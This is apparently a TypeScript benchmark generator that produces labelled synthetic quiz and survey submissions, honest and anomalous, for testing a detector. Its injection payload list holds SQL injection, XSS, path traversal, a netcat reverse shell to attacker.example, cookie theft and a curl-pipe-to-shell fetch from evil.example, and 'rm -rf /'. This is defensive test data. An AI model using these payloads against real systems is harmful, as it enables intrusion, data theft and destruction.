/**
 * Labelled submission streams for the assessment benchmark: two weeks of honest traffic per
 * form, with about a hundred of each anomaly kind spread over the forms they apply to and over
 * time. Two configurations: `default` and `shifted` (other form sizes, option counts, speeds
 * and spreads), so that the detector's defaults are not judged on one set of constants.
 */
import type { AssessmentSubmission } from '../../lib/core/types';
import { DAY_MS } from '../../lib/detection/assessment-baseline';
import { Rng } from './rng';
import {
  type Filled,
  type Form,
  type FormSpec,
  type Person,
  type PopulationSpec,
  BENIGN_LOOKALIKES,
  HONEST_COMMENTS,
  buildForm,
  drawPerson,
  honestAnswer,
  honestTimes,
  scoreOf,
  toResponses,
} from './population';

/** Ground-truth label of a submission. */
export type Kind =
  | 'honest'
  | 'benign_lookalike'
  | 'rapid_guessing'
  | 'straight_lining'
  | 'sequential'
  | 'alternating'
  | 'random_normal_speed'
  | 'answer_key'
  | 'partial_preknowledge'
  | 'injection'
  | 'poisoning';

/** Kinds that are honest traffic (false positives are counted on them). */
export const HONEST_KINDS: readonly Kind[] = ['honest', 'benign_lookalike'];

/** Anomaly kinds and the forms they can occur on. */
export const ANOMALY_KINDS: readonly Kind[] = [
  'rapid_guessing',
  'straight_lining',
  'sequential',
  'alternating',
  'random_normal_speed',
  'answer_key',
  'partial_preknowledge',
  'injection',
];

/** One labelled submission. */
export interface Labelled {
  readonly sub: AssessmentSubmission;
  readonly kind: Kind;
  readonly form: FormSpec;
}

/** A benchmark configuration. */
export interface ScenarioConfig {
  readonly name: string;
  readonly days: number;
  readonly population: PopulationSpec;
  readonly forms: readonly FormSpec[];
  /** Submissions per anomaly kind (spread over eligible forms). */
  readonly perKind: number;
  /** Benign look-alike submissions (honest answers, tricky free text). */
  readonly benign: number;
}

/** Default configuration: five forms, 5 to 40 items. */
export const DEFAULT_SCENARIO: ScenarioConfig = {
  name: 'default',
  days: 14,
  population: { speedSd: 0.3, withinSd: [0.4, 0.65], abilitySpeedCorr: 0.5, acquiescenceSd: 0.35, breakProb: 0.05, retakeShare: 0.08 },
  forms: [
    { type: 'quiz_12', kind: 'quiz', items: 12, options: 4, itemMedianSec: 25, itemTimes: true, freeText: false, reverseShare: 0, scored: true, perDay: 300, overheadSec: 15 },
    { type: 'exam_40', kind: 'quiz', items: 40, options: 4, itemMedianSec: 45, itemTimes: true, freeText: true, reverseShare: 0, scored: true, perDay: 150, overheadSec: 30 },
    { type: 'survey_20', kind: 'likert', items: 20, options: 5, itemMedianSec: 6, itemTimes: false, freeText: true, reverseShare: 0.33, scored: true, perDay: 300, overheadSec: 10 },
    { type: 'survey_8', kind: 'likert', items: 8, options: 5, itemMedianSec: 7, itemTimes: true, freeText: true, reverseShare: 0.33, scored: false, perDay: 200, overheadSec: 8 },
    { type: 'risk_5', kind: 'yesno', items: 5, options: 2, itemMedianSec: 4, itemTimes: false, freeText: false, reverseShare: 0, scored: true, perDay: 400, overheadSec: 6, yesLocation: -0.3 },
  ],
  perKind: 100,
  benign: 100,
};

/**
 * Shifted configuration: other sizes (6, 15, 25, 30, 60 items), 3- and 5-option quizzes, a
 * 7-point scale, a faster and a slower population, wider speed and item-time spreads, a
 * 14-item yes/no form with no reverse keying (honest all-same answers are common there).
 */
export const SHIFTED_SCENARIO: ScenarioConfig = {
  name: 'shifted',
  days: 14,
  population: { speedSd: 0.45, withinSd: [0.5, 0.85], abilitySpeedCorr: 0.3, acquiescenceSd: 0.5, breakProb: 0.08, retakeShare: 0.15 },
  forms: [
    { type: 'quiz_15', kind: 'quiz', items: 15, options: 5, itemMedianSec: 12, itemTimes: false, freeText: true, reverseShare: 0, scored: true, perDay: 250, overheadSec: 10 },
    { type: 'exam_60', kind: 'quiz', items: 60, options: 3, itemMedianSec: 70, itemTimes: true, freeText: false, reverseShare: 0, scored: true, perDay: 80, overheadSec: 60 },
    { type: 'scale_25', kind: 'likert', items: 25, options: 7, itemMedianSec: 4, itemTimes: true, freeText: true, reverseShare: 0.4, scored: true, perDay: 350, overheadSec: 5 },
    { type: 'pulse_6', kind: 'likert', items: 6, options: 5, itemMedianSec: 3, itemTimes: false, freeText: true, reverseShare: 0, scored: true, perDay: 250, overheadSec: 4 },
    { type: 'screen_14', kind: 'yesno', items: 14, options: 2, itemMedianSec: 2.5, itemTimes: true, freeText: false, reverseShare: 0, scored: true, perDay: 300, overheadSec: 4, yesLocation: -0.8 },
    { type: 'check_30', kind: 'yesno', items: 30, options: 2, itemMedianSec: 5, itemTimes: false, freeText: true, reverseShare: 0.3, scored: false, perDay: 150, overheadSec: 8 },
  ],
  perKind: 100,
  benign: 100,
};

/**
 * Wide configuration, added as a held-out check after the other two were settled: a very
 * heterogeneous population (speed SD 0.6, item-time SD up to 1.0, strong ability-speed
 * correlation), a 7-item quiz, a true/false quiz with item times, 4-point and 5-point scales at
 * 2 s per item, a 50-item yes/no form half reverse-keyed.
 */
export const WIDE_SCENARIO: ScenarioConfig = {
  name: 'wide',
  days: 14,
  population: { speedSd: 0.6, withinSd: [0.3, 1.0], abilitySpeedCorr: 0.6, acquiescenceSd: 0.25, breakProb: 0.03, retakeShare: 0.05 },
  forms: [
    { type: 'quiz_7', kind: 'quiz', items: 7, options: 4, itemMedianSec: 40, itemTimes: false, freeText: true, reverseShare: 0, scored: true, perDay: 200, overheadSec: 20 },
    { type: 'tf_11', kind: 'quiz', items: 11, options: 2, itemMedianSec: 8, itemTimes: true, freeText: false, reverseShare: 0, scored: true, perDay: 400, overheadSec: 5 },
    { type: 'scale_18', kind: 'likert', items: 18, options: 4, itemMedianSec: 9, itemTimes: false, freeText: true, reverseShare: 0.5, scored: true, perDay: 250, overheadSec: 12 },
    { type: 'quick_35', kind: 'likert', items: 35, options: 5, itemMedianSec: 2, itemTimes: true, freeText: false, reverseShare: 0.2, scored: false, perDay: 300, overheadSec: 3 },
    { type: 'yn_50', kind: 'yesno', items: 50, options: 2, itemMedianSec: 3, itemTimes: false, freeText: true, reverseShare: 0.5, scored: true, perDay: 150, overheadSec: 6, yesLocation: 0.3 },
  ],
  perKind: 100,
  benign: 100,
};

/** Injection payloads: textbook forms from the usual cheat sheets, alone or inside prose. */
export const INJECTION_PAYLOADS: readonly string[] = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "admin'--",
  "1' UNION SELECT username, password FROM users--",
  "'; DROP TABLE users; --",
  "1' AND SLEEP(5)#",
  "\" OR \"\"=\"",
  '1; DROP TABLE students',
  "') OR ('a'='a",
  "1' ORDER BY 3--",
  "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(document.cookie)>',
  'javascript:alert(1)',
  "\"><script>fetch('//evil.example/'+document.cookie)</script>",
  '<iframe src="javascript:alert(1)"></iframe>',
  "<body onload=alert('x')>",
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '<ScRiPt>alert(1)</sCrIpT>',
  '; cat /etc/passwd',
  '| nc attacker.example 4444 -e /bin/sh',
  '&& rm -rf /',
  '$(whoami)',
  '`id`',
  '; ping -c 3 10.0.0.1',
  '|| curl http://evil.example/x.sh | sh',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '{"$ne": null}',
  '{"$gt": ""}',
  '[$ne]=1',
  '{"$where": "sleep(1000)"}',
];

/** Stream plus what it was generated from. */
export interface Stream {
  readonly config: ScenarioConfig;
  readonly seed: number;
  readonly forms: readonly Form[];
  readonly items: readonly Labelled[];
}

/** Stream start (a fixed date, so output is reproducible). */
export const START_MS = Date.UTC(2025, 0, 6, 0, 0, 0);

function r1(x: number): number {
  return Math.round(x * 10) / 10;
}
function r2(x: number): number {
  return Math.round(x * 100) / 100;
}

/** Turns answers and times into a submission. */
export function makeSubmission(form: Form, user: string, atMs: number, answers: readonly number[], times: { itemTimes: number[]; overheadSec: number }, comment?: string, overrides?: Partial<Filled>): AssessmentSubmission {
  const responses = overrides?.responses ?? toResponses(form, answers, comment);
  const itemSum = times.itemTimes.reduce((s, x) => s + x, 0);
  const completion = r1(itemSum + times.overheadSec);
  const score = overrides && 'score' in overrides ? overrides.score : scoreOf(form, answers);
  const sub: AssessmentSubmission = {
    user,
    type: form.spec.type,
    completionTimeSec: Math.max(completion, 0.1),
    responses,
    ...(score !== undefined ? { score } : {}),
    submittedAt: new Date(Math.round(atMs)),
    ...(form.spec.itemTimes ? { itemTimesSec: Object.fromEntries(form.keys.map((k, i) => [k, r2(times.itemTimes[i])])) } : {}),
  };
  return sub;
}

/** An honest submission by a (new or returning) person. */
export function honestSubmission(form: Form, person: Person, user: string, atMs: number, rng: Rng, comment?: string): AssessmentSubmission {
  const answers = form.keys.map((_, i) => honestAnswer(form, i, person, rng));
  const times = honestTimes(form, person, rng);
  const c = comment ?? (form.spec.freeText && rng.bool(0.35) ? rng.pick(HONEST_COMMENTS) : '');
  return makeSubmission(form, user, atMs, answers, times, c);
}

function logUniform(rng: Rng, lo: number, hi: number): number {
  return Math.exp(rng.uniform(Math.log(lo), Math.log(hi)));
}

function eligible(kind: Kind, form: FormSpec): boolean {
  switch (kind) {
    case 'answer_key':
    case 'partial_preknowledge':
      return form.kind === 'quiz';
    case 'sequential':
      return form.options >= 3;
    default:
      return true;
  }
}

/** One anomalous submission of a kind. */
export function anomalousSubmission(kind: Kind, form: Form, pop: PopulationSpec, user: string, atMs: number, rng: Rng): AssessmentSubmission {
  const person = drawPerson(pop, rng);
  const J = form.keys.length;
  const k = form.spec.options;
  const honest = honestTimes(form, person, rng);
  const comment = form.spec.freeText && rng.bool(0.35) ? rng.pick(HONEST_COMMENTS) : '';
  const scaled = (f: number): { itemTimes: number[]; overheadSec: number } => ({
    itemTimes: honest.itemTimes.map((t) => t * f),
    overheadSec: honest.overheadSec * Math.min(1, f * 1.5),
  });
  switch (kind) {
    case 'rapid_guessing': {
      // Faster than one can read: 0.5-2 s per item, and at most 5-20% of the form's typical
      // item time (Wise & Ma's NT10 region), never below 0.3 s.
      const perItem = Math.max(0.3, Math.min(rng.uniform(0.5, 2), form.spec.itemMedianSec * logUniform(rng, 0.05, 0.2)));
      const answers = form.keys.map(() => rng.int(k));
      const times = { itemTimes: form.keys.map(() => rng.lognormal(perItem, 0.4)), overheadSec: honest.overheadSec * rng.uniform(0.1, 0.5) };
      return makeSubmission(form, user, atMs, answers, times, form.spec.freeText ? '' : undefined);
    }
    case 'straight_lining': {
      const v = rng.int(k);
      return makeSubmission(form, user, atMs, form.keys.map(() => v), scaled(logUniform(rng, 0.3, 1)), comment);
    }
    case 'sequential': {
      const start = rng.int(k);
      const mode = rng.next();
      const answers = form.keys.map((_, i) => {
        if (mode < 0.4) return (start + i) % k; // ascending cycle
        if (mode < 0.8) return (((start - i) % k) + k) % k; // descending cycle
        const period = 2 * (k - 1); // zigzag 0,1,..,k-1,k-2,..,1,0,...
        const p = (start + i) % period;
        return p < k ? p : period - p;
      });
      return makeSubmission(form, user, atMs, answers, scaled(logUniform(rng, 0.3, 1)), comment);
    }
    case 'alternating': {
      const a = rng.int(k);
      let b = rng.int(k - 1);
      if (b >= a) b += 1;
      return makeSubmission(form, user, atMs, form.keys.map((_, i) => (i % 2 === 0 ? a : b)), scaled(logUniform(rng, 0.3, 1)), comment);
    }
    case 'random_normal_speed':
      return makeSubmission(form, user, atMs, form.keys.map(() => rng.int(k)), honest, comment);
    case 'answer_key': {
      const answers = form.keys.map((_, i) => form.quiz![i].key);
      if (rng.bool(0.3)) {
        const j = rng.int(J);
        answers[j] = (answers[j] + 1) % k;
      }
      return makeSubmission(form, user, atMs, answers, scaled(logUniform(rng, 0.1, 0.6)), comment);
    }
    case 'partial_preknowledge': {
      const known = rng.uniform(0.3, 0.7);
      const answers: number[] = [];
      const itemTimes: number[] = [];
      form.keys.forEach((_, i) => {
        if (rng.bool(known)) {
          answers.push(form.quiz![i].key);
          itemTimes.push(honest.itemTimes[i] * rng.uniform(0.1, 0.3));
        } else {
          answers.push(honestAnswer(form, i, person, rng));
          itemTimes.push(honest.itemTimes[i]);
        }
      });
      return makeSubmission(form, user, atMs, answers, { itemTimes, overheadSec: honest.overheadSec }, comment);
    }
    case 'injection': {
      const answers = form.keys.map((_, i) => honestAnswer(form, i, person, rng));
      const payload = rng.pick(INJECTION_PAYLOADS);
      const text = rng.bool(0.5) ? payload : `${rng.pick(['Nice quiz', 'ok', 'Thanks', 'see'])} ${payload}`;
      const responses = toResponses(form, answers, form.spec.freeText ? comment : undefined);
      if (form.spec.freeText && rng.bool(0.7)) responses.comment = text;
      else responses[rng.pick(form.keys)] = text; // a tampered choice value
      return makeSubmission(form, user, atMs, answers, honest, undefined, { responses });
    }
    default:
      throw new Error(`not an anomaly kind: ${kind}`);
  }
}

/** Generates the labelled stream of a configuration, sorted by time. */
export function generateStream(config: ScenarioConfig, seed: number): Stream {
  const root = new Rng(seed);
  const forms = config.forms.map((spec) => buildForm(spec, config.population, root.fork(`form:${spec.type}`)));
  const items: Labelled[] = [];
  const rng = root.fork('traffic');
  forms.forEach((form) => {
    const users: string[] = [];
    const n = Math.round(form.spec.perDay * config.days);
    for (let i = 0; i < n; i++) {
      const atMs = START_MS + rng.next() * config.days * DAY_MS;
      const retake = users.length > 0 && rng.bool(config.population.retakeShare);
      const user = retake ? rng.pick(users) : `${form.spec.type}-u${users.length + 1}`;
      if (!retake) users.push(user);
      const person = drawPerson(config.population, rng);
      items.push({ sub: honestSubmission(form, person, user, atMs, rng), kind: 'honest', form: form.spec });
    }
  });
  const arng = root.fork('anomalies');
  let serial = 0;
  for (const kind of ANOMALY_KINDS) {
    const pool = forms.filter((f) => eligible(kind, f.spec));
    for (let i = 0; i < config.perKind; i++) {
      const form = pool[i % pool.length];
      const atMs = START_MS + arng.next() * config.days * DAY_MS;
      const user = `x-${kind}-${++serial}`;
      items.push({ sub: anomalousSubmission(kind, form, config.population, user, atMs, arng), kind, form: form.spec });
    }
  }
  const withText = forms.filter((f) => f.spec.freeText);
  for (let i = 0; i < config.benign; i++) {
    const form = withText[i % withText.length];
    const atMs = START_MS + arng.next() * config.days * DAY_MS;
    const person = drawPerson(config.population, arng);
    const sub = honestSubmission(form, person, `b-${++serial}`, atMs, arng, arng.pick(BENIGN_LOOKALIKES));
    items.push({ sub, kind: 'benign_lookalike', form: form.spec });
  }
  items.sort((a, b) => a.sub.submittedAt.getTime() - b.sub.submittedAt.getTime());
  return { config, seed, forms, items };
}

/** The CLI's JSON Lines form of a submission (SPEC.md `watchpost assess`). */
export function toJsonLine(sub: AssessmentSubmission): string {
  return JSON.stringify({
    user: sub.user,
    type: sub.type,
    completion_time: sub.completionTimeSec,
    responses: sub.responses,
    ...(sub.score !== undefined ? { score: sub.score } : {}),
    submitted_at: sub.submittedAt.toISOString(),
    ...(sub.itemTimesSec ? { item_times: sub.itemTimesSec } : {}),
  });
}
